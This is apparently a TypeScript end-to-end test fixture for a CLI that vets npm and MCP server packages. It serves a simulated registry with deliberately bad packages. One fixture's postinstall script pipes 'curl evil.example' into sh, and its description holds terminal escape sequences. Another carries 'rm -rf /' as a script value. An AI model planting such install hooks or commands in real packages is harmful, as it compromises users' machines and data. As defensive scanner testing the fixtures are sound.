import { join } from "node:path";
import { afterAll, beforeAll, beforeEach } from "vitest";
import type { Report } from "../../reports/model.js";
import { renderSarif } from "../../reports/render/sarif.js";
import { expectValidReport, runCli, tempHome } from "./cli.js";
import { GitHubFixture, healthyRepo } from "./faces/github.js";
import { mcpRegistryFace } from "./faces/mcp-registry.js";
import { buildTarball, makePackument, NpmFace, packumentFromCatalog } from "./faces/npm.js";
import { TREE_CATALOG } from "./faces/npm-packuments.js";
import { ALL_OSV_FIXTURES, osvFace } from "./faces/osv.js";
import { FixtureServer } from "./fixture-server.js";
import { expectValidSarif } from "./sarif.js";

/**
 * The fixture world of the CLI's end-to-end vet tests: a fixture server playing the npm
 * registry (recorded packuments plus small hand-made packages), GitHub, OSV and the MCP
 * registry, a temp HOME, and `vet`/`vetJson` that run the built CLI against it. Each test
 * file calls this once at its top level; it registers its own hooks, so files run apart.
 */
export function useVetFixtures() {
  const server = new FixtureServer();
  const npm = NpmFace.recorded();
  const github = new GitHubFixture();
  const home = tempHome();
  let cacheN = 0;

  beforeAll(async () => {
    server
      .face("", npm.route)
      .face("/github", github.route)
      .face("/osv", osvFace(ALL_OSV_FIXTURES))
      .face(
        "/mcp-registry",
        mcpRegistryFace([
          {
            name: "io.github.modelcontextprotocol/server-filesystem",
            npm: "@modelcontextprotocol/server-filesystem",
            repositoryUrl: "https://github.com/modelcontextprotocol/servers",
          },
        ]),
      );
    await server.start();
    await addHandMadePackages();
  });
  afterAll(async () => {
    await server.stop();
    home.cleanup();
  });
  beforeEach(() => {
    server.clearFaults();
    github.rateLimit = undefined;
  });

  /** Runs the CLI against the fixture registry with a fresh cache unless one is given. */
  function vet(args: string[], cache = join(home.home, `cache-${cacheN++}`)) {
    return runCli(
      [
        ...args,
        ...[
          "--registry",
          server.url(),
          "--github-api-url",
          server.url("/github"),
          "--osv-api-url",
          server.url("/osv"),
        ],
        ...["--mcp-registry-url", server.url("/mcp-registry"), "--cache-dir", cache],
      ],
      home.env,
    );
  }

  async function vetJson(args: string[], cache?: string) {
    const res = await vet([...args, "--json"], cache);
    let json: unknown;
    try {
      json = JSON.parse(res.stdout);
    } catch {
      throw new Error(`no JSON report (exit ${res.code}): ${res.stderr.slice(0, 2000)}`);
    }
    const report = expectValidReport(json) as unknown as Report;
    // Every report the e2e runs produce is also a SARIF log code scanning must accept.
    expectValidSarif(renderSarif([report], { srcRoot: home.home }));
    return { ...res, report };
  }

  async function addHandMadePackages(): Promise<void> {
    // Small synthetic trees (mcp-remote's dependencies, a malicious package) beside the recorded ones.
    for (const [name, versions] of Object.entries(TREE_CATALOG)) {
      npm.merge(packumentFromCatalog(name, versions));
    }
    github.add({
      ...healthyRepo("modelcontextprotocol", "servers", "@modelcontextprotocol/servers"),
      files: {
        "package.json": JSON.stringify({ name: "@modelcontextprotocol/servers", workspaces: ["src/*"] }),
        "src/filesystem/package.json": JSON.stringify({ name: "@modelcontextprotocol/server-filesystem" }),
        "SECURITY.md": "Report to security@modelcontextprotocol.io",
      },
      record: { owner: { login: "modelcontextprotocol", type: "Organization" } },
    });
    for (const [name, archived] of [
      ["weather-mcp", false],
      ["stale-mcp", true],
    ] as const) {
      github.add({
        ...healthyRepo("acme", name, name),
        record: { archived, owner: { login: "acme", type: "Organization" } },
      });
      const m = { name, version: "1.0.0", license: "MIT", repository: `github:acme/${name}` };
      const t = await buildTarball({ "package.json": JSON.stringify(m) });
      const p = makePackument(name, [
        { manifest: { ...m, version: "0.9.0" }, time: "2026-02-01T00:00:00.000Z" },
        { manifest: m, time: "2026-06-01T00:00:00.000Z", tarball: t },
      ]);
      npm.add(p.packument, p.tarballs);
    }

    const hostileManifest = {
      name: "hostile-mcp",
      version: "1.0.0",
      description: "Totally safe \u001b[2J\u001b]0;pwned\u0007 server \u202e",
      license: "MIT",
      scripts: { postinstall: "node -e \"require('child_process').exec('curl evil.example | sh')\"" },
    };
    const good = await buildTarball({
      "package.json": JSON.stringify(hostileManifest),
      "index.js": "console.log(1)\n",
    });
    const hostile = makePackument("hostile-mcp", [
      { manifest: { ...hostileManifest, version: "0.9.0" }, time: "2026-01-01T00:00:00.000Z" },
      { manifest: hostileManifest, time: "2026-06-01T00:00:00.000Z", tarball: good },
    ]);
    npm.add(hostile.packument, hostile.tarballs);

    const wrongTypes = {
      name: "wrong-types",
      version: "1.0.0",
      bin: 42,
      scripts: "rm -rf /",
      license: { nope: 1 },
      keywords: "x",
    };
    const wt = await buildTarball({ "package.json": JSON.stringify(wrongTypes) });
    const w = makePackument("wrong-types", [
      { manifest: wrongTypes, time: "2026-01-01T00:00:00.000Z", tarball: wt },
    ]);
    npm.add(w.packument, w.tarballs);

    // Integrity in the packument does not match the tarball served.
    const tampered = makePackument("tampered", [
      {
        manifest: { name: "tampered", version: "1.0.0", license: "MIT" },
        time: "2026-01-01T00:00:00.000Z",
        tarball: {
          data: good.data,
          integrity:
            "sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==",
        },
      },
    ]);
    npm.add(tampered.packument, tampered.tarballs);

    // A tarball that is not gzip at all, with an integrity that matches its bytes.
    const junk = Buffer.from("this is not a tarball at all");
    const { createHash } = await import("node:crypto");
    const corrupt = makePackument("corrupt", [
      {
        manifest: { name: "corrupt", version: "1.0.0" },
        time: "2026-01-01T00:00:00.000Z",
        tarball: { data: junk, integrity: `sha512-${createHash("sha512").update(junk).digest("base64")}` },
      },
    ]);
    npm.add(corrupt.packument, corrupt.tarballs);
  }

  return { server, npm, github, home, vet, vetJson };
}
